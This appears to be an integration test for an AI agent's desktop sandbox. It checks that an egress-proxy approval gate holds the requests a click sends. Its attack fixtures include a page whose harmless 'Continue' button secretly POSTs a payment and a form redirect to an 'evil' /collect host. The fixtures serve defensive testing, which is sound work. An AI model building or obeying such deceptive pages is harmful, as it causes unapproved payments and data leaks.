import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Approval } from '../../../electron/contract/index.js';
import { missing } from '../../support/requirements.js';
import { createPlaybookTask, waitForState, type TestRuntime } from '../../support/runtime.js';
import { desktopContainers, desktopImage, openDesktopRuntime } from '../../support/sandboxImage.js';

// The desktop tier's effect gate, with real parts: a real desktop container on the egress
// network, its own Chromium, the runtime's egress proxy, and a shop on the host that records what
// reached it. The buttons read "Continue" (no payment word), so only what the click sends can
// make it ask. The playbook clicks where its author put the button (the lower half of the page).

const skip = missing('docker');

/** A recording HTTP service; `routes` answer by path, every request is recorded. */
class Recorder {
  readonly got: string[] = [];
  private server: http.Server | undefined;
  constructor(private readonly routes: (req: http.IncomingMessage, res: http.ServerResponse, body: string) => void) {}
  async start(host: string): Promise<string> {
    this.server = http.createServer(async (req, res) => {
      let body = '';
      for await (const chunk of req) body += chunk;
      if (req.method !== 'GET') this.got.push(`${req.method} ${req.url} ${body}`);
      this.routes(req, res, body);
    });
    await new Promise<void>((r) => this.server!.listen(0, host, () => r()));
    return `http://${host}:${(this.server.address() as AddressInfo).port}`;
  }
  async stop(): Promise<void> {
    this.server?.closeAllConnections();
    await new Promise<void>((r) => (this.server ? this.server.close(() => r()) : r()));
  }
}

const BUTTON = 'position: fixed; left: 0; top: 50vh; width: 100vw; height: 45vh; font-size: 40px';
const page = (title: string, body: string) => `<!doctype html><meta charset="utf-8"><title>${title}</title>${body}`;

let shopOrigin = '';
let evilOrigin = '';
const shop = new Recorder((req, res) => {
  const html = (text: string) => res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(text);
  if (req.url === '/form')
    return html(
      page(
        'Shop',
        `<form method="post" action="/order"><input name="item" value="lamp"><input name="qty" value="2"><button style="${BUTTON}">Continue</button></form>`,
      ),
    );
  if (req.url === '/script')
    return html(
      page(
        'Shop',
        `<button style="${BUTTON}" onclick="fetch('/api/checkout', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ amount: '99.00', currency: 'EUR' }) }).then(() => (document.title = 'sent'), () => (document.title = 'refused'))">Continue</button>`,
      ),
    );
  if (req.url === '/redirecting')
    return html(
      page('Shop', `<form method="post" action="/hop"><input name="note" value="hello"><button style="${BUTTON}">Continue</button></form>`),
    );
  if (req.url === '/stripe')
    return html(
      page('Shop', `<button style="${BUTTON}" onclick="location.href = 'https://checkout.stripe.com/c/session'">Continue</button>`),
    );
  if (req.url === '/order') return void res.writeHead(303, { location: '/thanks' }).end();
  if (req.url === '/hop') return void res.writeHead(307, { location: `${evilOrigin}/collect` }).end();
  if (req.url === '/thanks') return html(page('Thanks', '<h1>Thank you for your order</h1>'));
  res.writeHead(404).end();
});
const evil = new Recorder((_req, res) => res.end('collected'));

function playbook(path: string): string {
  return `name: desktop-shop
steps:
  - tool: sandbox.browser_open
    args: { url: "${shopOrigin}${path}" }
  - tool: computer
    args: { action: click, x: 640, y: 600 }
`;
}

describe.skipIf(skip)(`the desktop's requests meet the effect gate in the egress proxy${skip ? ` (skipped: ${skip})` : ''}`, () => {
  let image: string;
  let h: TestRuntime | undefined;

  beforeAll(async () => {
    image = await desktopImage();
    shopOrigin = await shop.start('127.0.0.1');
    evilOrigin = await evil.start('127.0.0.2');
  }, 600_000);
  afterAll(async () => {
    await shop.stop();
    await evil.stop();
  });
  afterEach(async () => {
    await h?.cleanup();
    h = undefined;
    shop.got.length = 0;
    evil.got.length = 0;
  });

  function open(extra: { allowWrites?: string[]; egressAllow?: string[] } = {}): TestRuntime {
    const shopHost = new URL(shopOrigin).host;
    const config = {
      policy: { networkAllow: [shopHost], allowWrites: extra.allowWrites ?? [] },
      sandbox: { egressAllow: [shopHost, ...(extra.egressAllow ?? [])] },
    };
    h = openDesktopRuntime(image, { config }).h;
    return h;
  }

  /** Runs the playbook until the click waits for approval; returns the run and the approval. */
  async function untilApproval(
    rt: TestRuntime,
    path: string,
  ): Promise<{ run: Promise<{ state: string }>; approval: Approval; taskId: string }> {
    const task = await createPlaybookTask(rt.rt, playbook(path));
    const run = rt.rt.engine.run(task.id);
    const waiting = await waitForState(rt.rt, task.id, ['waiting_approval', 'failed', 'succeeded'], 180_000);
    expect(waiting.state, waiting.stateReason).toBe('waiting_approval');
    const [approval] = await rt.rt.approvals.list({ taskId: task.id, status: 'pending' });
    return { run, approval: approval!, taskId: task.id };
  }

  it('a form the click submits waits for approval with method, URL, fields and the marked screen; approved, the shop gets exactly one order', async () => {
    const rt = open();
    const { run, approval } = await untilApproval(rt, '/form');
    expect(shop.got, 'held: nothing reached the shop').toEqual([]);
    expect(approval).toMatchObject({ tool: 'computer', rememberable: false });
    expect(approval.preview.summary).toContain(`POST ${shopOrigin}/order`);
    expect(approval.preview.effects).toEqual([
      expect.objectContaining({ kind: 'form', method: 'POST', url: `${shopOrigin}/order`, fields: { item: 'lamp', qty: '2' } }),
    ]);
    expect(
      Buffer.from(approval.preview.screenshot ?? '', 'base64')
        .subarray(1, 4)
        .toString(),
    ).toBe('PNG');

    await rt.rt.approvals.decide(approval.id, { decision: 'approve', remember: 'once' }, 'test');
    expect((await run).state).toBe('succeeded');
    expect(shop.got).toEqual(['POST /order item=lamp&qty=2']);
    await expect.poll(() => desktopContainers(rt.home), { timeout: 20_000 }).toEqual([]);
  }, 300_000);

  it('denied, the order never reaches the shop and the task fails', async () => {
    const rt = open();
    const { run, approval } = await untilApproval(rt, '/form');
    await rt.rt.approvals.decide(approval.id, { decision: 'deny', remember: 'once', reason: 'no' }, 'test');
    expect((await run).state).toBe('failed');
    expect(shop.got).toEqual([]);
  }, 300_000);

  it('attack: a page script that POSTs a payment with fetch after a harmless-looking click is held as a payment', async () => {
    const rt = open();
    const { run, approval } = await untilApproval(rt, '/script');
    expect(approval.risks).toEqual(['payment']);
    expect(approval.preview.effects).toEqual([
      expect.objectContaining({
        kind: 'request',
        method: 'POST',
        url: `${shopOrigin}/api/checkout`,
        fields: { amount: '99.00', currency: 'EUR' },
      }),
    ]);
    await rt.rt.approvals.decide(approval.id, { decision: 'deny', remember: 'once', reason: 'no' }, 'test');
    expect((await run).state).toBe('failed');
    expect(shop.got).toEqual([]);
  }, 300_000);

  it('attack: an allowed write that 307-redirects to a host outside the allowlist stops at that hop', async () => {
    const rt = open({ allowWrites: [shopOrigin] });
    const task = await createPlaybookTask(rt.rt, playbook('/redirecting'));
    const done = await rt.rt.engine.run(task.id);
    expect(done.state, `the write itself was allowed by policy.allowWrites (${done.stateReason})`).toBe('succeeded');
    expect(shop.got).toEqual(['POST /hop note=hello']);
    expect(evil.got, 'the redirected POST never reached the other host').toEqual([]);
  }, 300_000);

  it('attack: a click that opens an allowlisted payment provider over HTTPS asks for the tunnel as a payment', async () => {
    const rt = open({ egressAllow: ['checkout.stripe.com:443'] });
    const { run, approval } = await untilApproval(rt, '/stripe');
    expect(approval.risks).toEqual(['payment']);
    expect(approval.preview.effects).toEqual([
      expect.objectContaining({ method: 'CONNECT', url: 'https://checkout.stripe.com:443/', risk: 'payment' }),
    ]);
    await rt.rt.approvals.decide(approval.id, { decision: 'deny', remember: 'once', reason: 'no' }, 'test');
    expect((await run).state).toBe('failed');
  }, 300_000);
});
